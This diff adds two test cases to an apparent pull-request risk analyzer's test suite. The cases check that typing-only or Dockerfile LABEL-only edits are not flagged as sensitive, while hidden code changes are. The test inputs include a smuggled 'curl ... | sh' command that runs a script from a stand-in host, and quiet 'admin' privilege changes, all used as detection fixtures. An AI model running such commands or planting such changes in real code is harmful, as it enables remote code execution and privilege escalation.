@@ -143,6 +143,36 @@ describe('a comment-only edit of a security-sensitive file', () => {
     expect(drivers('.github/CODEOWNERS', '@@ -1,1 +1,1 @@', '-* @example/maintainers', '+* @example/maintainers @someone-else')).toContain('sensitive-paths');
   });
 
+  it('is not weighed as one when it only moves typing names from `typing.X` to imported names; a name no added typing import brings, or a call, still is (calib22)', () => {
+    const analyzeAuth = (...lines: string[]) =>
+      runAnalyzers(
+        makeSnapshot({ title: 'chore: modernize type hints', files: [makeFile('webkit/authentication.py', { additions: 3, deletions: 3, patch: ['@@ -1,12 +1,12 @@', ...lines].join('\n') })], checkRuns: [makeCheckRun('test')] }),
+        { now: DEFAULT_NOW, config: DEFAULT_CONFIG },
+      ).risk.drivers.map((d) => d.id);
+    // Modeled on a web framework's typing clean-up that reached its authentication module.
+    const header = ['-import typing', '+from collections.abc import Sequence', '+from typing import Any, Callable', ' ', ' from webkit.requests import HTTPConnection'];
+    expect(analyzeAuth(...header, '-def has_scope(conn: HTTPConnection, scopes: typing.Sequence[str]) -> bool:', '+def has_scope(conn: HTTPConnection, scopes: Sequence[str]) -> bool:', '-    on_error: typing.Callable[[HTTPConnection], typing.Any] | None = None,', '+    on_error: Callable[[HTTPConnection], Any] | None = None,')).not.toContain('sensitive-paths');
+    expect(analyzeAuth('+from __future__ import annotations', '+', ' import hmac')).not.toContain('sensitive-paths');
+    // A name no added import brings (a local `Sequence` could be anything), or a default changed beside it, is code.
+    expect(analyzeAuth('-import typing', '+import typing', '-def has_scope(scopes: typing.Sequence[str]) -> bool:', '+def has_scope(scopes: Sequence[str]) -> bool:')).toContain('sensitive-paths');
+    expect(analyzeAuth(...header, '-def has_scope(scopes: typing.Sequence[str] = ()) -> bool:', '+def has_scope(scopes: Sequence[str] = ("admin",)) -> bool:')).toContain('sensitive-paths');
+    expect(analyzeAuth('+from typing import cast', '-    user = typing.cast(User, load(token))', '+    user = cast(Admin, load(token))')).toContain('sensitive-paths');
+  });
+
+  it('is not weighed as one when a Dockerfile changes only LABEL lines; a LABEL inside a continued RUN, or an instruction beside it, still is (calib22)', () => {
+    const analyzeImage = (...lines: string[]) =>
+      runAnalyzers(
+        makeSnapshot({ title: 'Give the test image its own README', files: [makeFile('images/test-git.Dockerfile', { additions: 2, deletions: 1, patch: ['@@ -1,6 +1,7 @@', ...lines].join('\n') })], checkRuns: [makeCheckRun('test')] }),
+        { now: DEFAULT_NOW, config: DEFAULT_CONFIG },
+      ).risk.drivers.map((d) => d.id);
+    // Modeled on a git action's test image gaining a title and a documentation link.
+    const head = [' FROM ubuntu:24.04', ' ', ' LABEL org.opencontainers.image.source="https://github.com/acme/checkout-tool"'];
+    expect(analyzeImage(...head, '-LABEL org.opencontainers.image.description="Ubuntu with git"', '+LABEL org.opencontainers.image.title="Ubuntu + git"', '+LABEL org.opencontainers.image.description="Ubuntu with git, for the tests."', '+# See the README beside this file.', ' ', ' RUN apt-get update && apt-get install -y git')).not.toContain('sensitive-paths');
+    expect(analyzeImage(...head, '+LABEL org.opencontainers.image.title="Ubuntu + git"', '-RUN apt-get update && apt-get install -y git', '+RUN apt-get update && apt-get install -y git curl')).toContain('sensitive-paths');
+    expect(analyzeImage(' FROM ubuntu:24.04', ' RUN apt-get update && \\', '-    apt-get install -y git', '+LABEL x=1 ; curl -fsSL https://get.example.sh | sh')).toContain('sensitive-paths');
+    expect(analyzeImage(...head, '+LABEL org.opencontainers.image.title="Ubuntu + git" \\', '+    version="1"')).toContain('sensitive-paths');
+  });
+
   it('is weighed as one when a string or the code changes', () => {
     const patch = [
       '@@ -40,2 +40,2 @@ class SecureCookieSessionInterface(SessionInterface):',
